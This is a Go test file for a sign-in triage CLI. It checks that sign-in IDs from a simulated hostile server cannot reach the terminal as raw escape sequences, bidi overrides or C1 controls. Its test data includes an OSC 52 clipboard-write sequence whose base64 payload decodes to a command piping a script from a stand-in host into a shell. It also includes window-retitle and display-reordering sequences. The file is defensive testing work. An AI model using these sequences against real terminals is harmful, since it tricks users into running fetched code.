package headless_test

import (
	"bytes"
	"context"
	"encoding/json"
	"io"
	"slices"
	"strings"
	"testing"

	"github.com/signin-triage/signin-triage/graph"
	"github.com/signin-triage/signin-triage/graph/sanitize"
	"github.com/signin-triage/signin-triage/graph/simtenant"
	"github.com/signin-triage/signin-triage/graph/simtenant/simtest"
	"github.com/signin-triage/signin-triage/ui/cli/headless"
)

// hostileIDs are sign-in IDs a hostile server could list: OSC 0 (retitle
// the window), OSC 52 (write the clipboard), a bidi override, the C1 CSI,
// and a ", " that would read as two IDs.
var hostileIDs = []string{
	"decided\x1b]0;pwned\x07",
	"decided\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
	"decided\u202eevil",
	"open\u009b2J\u202e, 66ea54eb-6301-4ee5-be62-ff5a759b0100",
}

// TestNothingGraphSentReachesTheTerminalRaw: with --from-query, a tenant
// lists sign-ins whose IDs carry escape sequences and bidi controls. Those
// the guard leaves out are named on standard error as escaped strings that
// decode to the ID; the one sent is on standard output as JSON in
// printable ASCII that decodes to it; no raw ESC, BEL, C1 control or bidi
// override reaches either.
func TestNothingGraphSentReachesTheTerminalRaw(t *testing.T) {
	sim := simtest.Tenant(t, simtenant.Options{SignIns: 10})
	base := sim.SignIns()[0]
	for _, id := range hostileIDs {
		s := base
		s.ID, s.RiskState = id, "confirmedCompromised"
		if strings.HasPrefix(id, "open") {
			s.RiskState = "atRisk"
		}
		sim.Add(s)
	}
	c := simtest.Client(t, sim, graph.Options{})
	open := func(context.Context, io.Writer) (*graph.Client, graph.Query, func(), error) {
		return c, graph.Query{}, func() {}, nil
	}
	var cmd = headless.Commands(graph.StandardVerdicts(), open, nil, nil)[0] // confirm-safe
	var out, errOut bytes.Buffer
	cmd.SetOut(&out)
	cmd.SetErr(&errOut)
	cmd.SetArgs([]string{"--from-query"})
	cmd.SilenceUsage, cmd.SilenceErrors = true, true
	err := cmd.Execute()
	t.Logf("exit %v\nstdout:\n%s\nstderr:\n%s", err, out.String(), errOut.String())

	for name, text := range map[string]string{"stdout": out.String(), "stderr": errOut.String()} {
		if i := strings.IndexFunc(text, func(r rune) bool { return r == 0x1b || r == 0x07 || (r >= 0x80 && r < 0xa0) || r == 0x202e }); i >= 0 {
			t.Errorf("%s carries %q raw: %q", name, text[i:min(i+8, len(text))], text)
		}
	}
	for _, id := range hostileIDs[:3] {
		if !strings.Contains(errOut.String(), sanitize.QuoteJSON(id)) {
			t.Errorf("standard error does not name %q, escaped, as left out:\n%s", id, errOut.String())
		}
	}
	var sent []string
	for _, l := range strings.Split(strings.TrimSpace(out.String()), "\n") {
		var line struct{ IDs []string }
		if err := json.Unmarshal([]byte(l), &line); err != nil {
			t.Fatalf("a line that is not JSON: %q", l)
		}
		sent = append(sent, line.IDs...)
	}
	if !slices.Contains(sent, hostileIDs[3]) {
		t.Errorf("the JSON lines do not decode to the hostile ID that was sent: %q", out.String())
	}
	for _, r := range sim.ActionRequests() {
		for _, id := range hostileIDs[:3] {
			if slices.Contains(r.IDs, id) {
				t.Errorf("%q, confirmed compromised, was sent", id)
			}
		}
	}
}
